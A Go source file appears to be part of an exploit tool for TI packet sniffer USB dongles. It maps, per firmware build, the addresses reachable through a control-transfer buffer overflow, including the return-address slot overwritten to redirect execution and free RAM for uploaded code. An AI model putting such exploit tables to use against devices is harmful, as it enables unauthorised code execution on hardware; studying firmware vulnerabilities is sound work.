// Package layout models where the stock TI packet sniffer firmware keeps the
// variables we need to overwrite. All addresses are absolute xdata addresses
// unless noted otherwise; each supported firmware build gets its own table
// entry, keyed by the bcdDevice value the dongle reports over USB.
package layout

import (
	"fmt"

	"golang.org/x/exp/maps"
	"golang.org/x/exp/slices"
)

// Variant is the firmware build identifier, the raw bcdDevice value from the
// dongle's device descriptor.
type Variant uint16

func (v Variant) String() string {
	return fmt.Sprintf("%#04x", uint16(v))
}

// Encoding describes how a field value is serialized into the control
// transfer payload.
type Encoding uint8

const (
	// U8 is a one byte integer.
	U8 Encoding = iota
	// U16 is a two byte little-endian integer.
	U16
	// Raw is a verbatim byte string. Only valid as the last field of a
	// layout, since its length depends on the caller.
	Raw
)

func (e Encoding) width() int {
	switch e {
	case U8:
		return 1
	case U16:
		return 2
	}
	return 0
}

// Field is one firmware variable reachable through the transfer buffer
// overflow.
type Field struct {
	Name string
	Addr uint16
	Enc  Encoding
}

// Span is a half-open address range [Start, End).
type Span struct {
	Start, End uint16
}

func (s Span) Len() int {
	return int(s.End) - int(s.Start)
}

// Layout describes a single firmware build. Fields must be ordered by
// ascending address, all at or after TransferBufStart; Resolve checks this
// before the layout is ever used against a device.
type Layout struct {
	// TransferBufStart is where the vulnerable control transfer buffer
	// begins in xdata.
	TransferBufStart uint16
	// Fields are the request handler variables, in address order.
	Fields []Field
	// StackRet is the idata address of the return address slot we
	// overwrite to redirect execution.
	StackRet uint16
	// FreeSpace is RAM the firmware never touches, usable for uploaded
	// code.
	FreeSpace Span
}

// check walks the fields with a write cursor and verifies that every field
// is reachable by appending nonnegative padding after the previous one. A
// failure here is a table defect, not a runtime condition.
func (l *Layout) check() error {
	cursor := int(l.TransferBufStart)
	for i, f := range l.Fields {
		if int(f.Addr) < cursor {
			return fmt.Errorf("field %q at %#06x not reachable, cursor already at %#06x", f.Name, f.Addr, cursor)
		}
		if f.Enc == Raw && i != len(l.Fields)-1 {
			return fmt.Errorf("field %q is raw but not last", f.Name)
		}
		cursor = int(f.Addr) + f.Enc.width()
	}
	return nil
}

// UnsupportedError is returned when a dongle reports a firmware build that
// is not in the table. There is no safe fallback: every address below is
// build-specific.
type UnsupportedError struct {
	Variant Variant
}

func (e *UnsupportedError) Error() string {
	return fmt.Sprintf("firmware variant %s is not supported", e.Variant)
}

// sniffer firmware request handler variables, common to all known builds.
func fields(usbState, reqState, wptr, addrspace, wlen, data uint16) []Field {
	return []Field{
		{"usb_state", usbState, U8},
		{"req_state", reqState, U8},
		{"wptr", wptr, U16},
		{"addrspace", addrspace, U8},
		{"wlen", wlen, U16},
		{"data", data, Raw},
	}
}

// The stock firmware uses 0x1c0..0x3a0 and 0x1e90..0x1eb0, and maps the data
// address space in at 0x1f00..0x1fff. Everything in between is ours.
var freeSpace = Span{Start: 0x03a0, End: 0x1e90}

// layouts is the static per-build table, keyed by bcdDevice.
var layouts = map[Variant]*Layout{
	0x8391: {
		TransferBufStart: 0x20f,
		Fields:           fields(0x35d, 0x364, 0x371, 0x373, 0x375, 0x38f),
		StackRet:         0xc2,
		FreeSpace:        freeSpace,
	},
	0x0821: {
		TransferBufStart: 0x202,
		Fields:           fields(0x377, 0x37e, 0x38b, 0x38d, 0x38f, 0x3a2),
		StackRet:         0xc2,
		FreeSpace:        freeSpace,
	},
	0x2517: {
		TransferBufStart: 0x202,
		Fields:           fields(0x377, 0x37e, 0x38b, 0x38d, 0x38f, 0x3a2),
		StackRet:         0xc2,
		FreeSpace:        freeSpace,
	},
}

// Resolve returns the memory layout for a firmware build, or an
// UnsupportedError if the build is unknown.
func Resolve(v Variant) (*Layout, error) {
	l, ok := layouts[v]
	if !ok {
		return nil, &UnsupportedError{Variant: v}
	}
	if err := l.check(); err != nil {
		return nil, fmt.Errorf("layout for %s is defective: %w", v, err)
	}
	return l, nil
}

// Supported returns all known firmware variants, sorted.
func Supported() []Variant {
	res := maps.Keys(layouts)
	slices.Sort(res)
	return res
}
